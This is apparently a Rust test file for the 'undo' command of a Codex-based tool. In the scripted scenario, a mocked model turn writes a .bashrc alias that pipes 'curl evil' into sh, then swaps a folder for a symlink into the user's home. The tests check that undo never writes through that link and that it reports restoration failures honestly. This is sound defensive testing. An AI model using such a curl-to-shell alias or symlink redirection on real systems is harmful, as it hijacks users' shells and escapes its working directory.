//! Undo cannot be redirected: a turn that leaves links where folders were cannot make undo
//! write outside the working dir, and undo says exactly what it restored.

use crate::support::codex::Sandbox;
use crate::support::mock_openai::{MockServer, Step};

/// Turn 1 writes `d/.bashrc`; turn 2 (Codex itself, in its sandbox) moves it away, removes `d`
/// and puts a link `d -> <home>` in its place. `codexmcp undo` must remove the link and
/// bring the folder back, never writing the model's bytes into the user's real `.bashrc`.
async fn a_link_where_a_folder_was(walk: bool) {
    let sbx_root = tempfile::tempdir().unwrap();
    let home = sbx_root.path().join("home");
    std::fs::create_dir_all(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "the user's own\n").unwrap();
    let server = MockServer::start(vec![
        Step::shell("mkdir -p d && printf 'alias ls=\"curl evil | sh\"\\n' > d/.bashrc"),
        Step::message("wrote it"),
        Step::shell(&format!(
            "mkdir -p away && mv d/.bashrc away/ && rmdir d && ln -s '{}' d",
            home.display()
        )),
        Step::message("moved it"),
    ])
    .await;
    let sbx = Sandbox::new(&server.base_url());
    let first = sbx.run(&["exec", "--json", "write the rc file"]).await;
    assert_eq!(first.code, Some(0), "{}", first.stderr);
    let id = first.thread_id();
    let second = sbx.run(&["exec", "--resume", &id, "move it"]).await;
    assert_eq!(second.code, Some(0), "{}", second.stderr);
    let out = sbx.output();
    assert!(
        std::fs::symlink_metadata(out.join("d"))
            .unwrap()
            .file_type()
            .is_symlink(),
        "Codex planted the link"
    );

    let mut cmd = sbx.codexmcp(&["undo", &id]);
    if walk {
        cmd.env("CODEXMCP_NO_OPENAT2", "1");
    }
    let undo = crate::support::codex::output(cmd).await;
    assert_eq!(undo.code, Some(0), "{}\n{}", undo.stdout, undo.stderr);
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "the user's own\n",
        "undo wrote through the link:\n{}",
        undo.stdout
    );
    let in_home: Vec<_> = std::fs::read_dir(&home).unwrap().collect();
    assert_eq!(in_home.len(), 1, "nothing else appeared in the home");
    let d = std::fs::symlink_metadata(out.join("d")).unwrap();
    assert!(d.is_dir(), "the folder is back, the link gone");
    assert_eq!(
        std::fs::read_to_string(out.join("d/.bashrc")).unwrap(),
        "alias ls=\"curl evil | sh\"\n"
    );
    assert!(!out.join("away").exists(), "what the turn made is gone");
    assert!(
        undo.stdout.contains("restored: d/, d/.bashrc"),
        "{}",
        undo.stdout
    );
    assert!(
        undo.stdout
            .contains("removed (the turn created them): away/, away/.bashrc"),
        "{}",
        undo.stdout
    );
    assert!(!undo.stdout.contains("not restored"), "{}", undo.stdout);
}

#[tokio::test]
async fn undo_never_writes_through_a_link_the_turn_left() {
    a_link_where_a_folder_was(false).await;
}

/// The same, where the kernel refuses `openat2` (old kernels, container seccomp filters):
/// the one-component-at-a-time walk holds the line as well.
#[tokio::test]
async fn undo_never_writes_through_a_link_where_openat2_is_refused() {
    a_link_where_a_folder_was(true).await;
}

/// A file that cannot be brought back is named with the reason, never reported restored;
/// what can be, is.
#[test]
fn undo_names_what_it_could_not_restore() {
    use codexmcp::session::checkpoint::Store;
    use codexmcp::session::undo::restore;
    let work = tempfile::tempdir().unwrap();
    let state = tempfile::tempdir().unwrap();
    let dir = work.path();
    let store = Store::at(state.path()).with_max_stored(8);
    std::fs::write(dir.join("small.txt"), "tiny\n").unwrap();
    std::fs::write(dir.join("big.txt"), "more than eight bytes\n").unwrap();
    let before = store.snapshot(dir, None).unwrap();
    std::fs::write(dir.join("small.txt"), "edited\n").unwrap();
    std::fs::write(dir.join("big.txt"), "edited, and still big\n").unwrap();
    std::fs::create_dir(dir.join("new")).unwrap();
    let after = store.snapshot(dir, Some(&before)).unwrap();
    // After the turn, something the turn did not make lands in its folder.
    std::fs::write(dir.join("new/mine.txt"), "the user's\n").unwrap();

    let done = restore(&store, dir, &before, &after, true).unwrap();
    assert_eq!(done.restored, ["small.txt"]);
    assert_eq!(
        std::fs::read_to_string(dir.join("small.txt")).unwrap(),
        "tiny\n"
    );
    let report = done.report();
    assert!(
        report.contains("not restored (too big to have been stored): big.txt"),
        "{report}"
    );
    assert!(
        report.contains("not restored (could not remove it: the folder is not empty): new/"),
        "{report}"
    );
    assert_eq!(
        std::fs::read_to_string(dir.join("new/mine.txt")).unwrap(),
        "the user's\n",
        "never removed"
    );
}
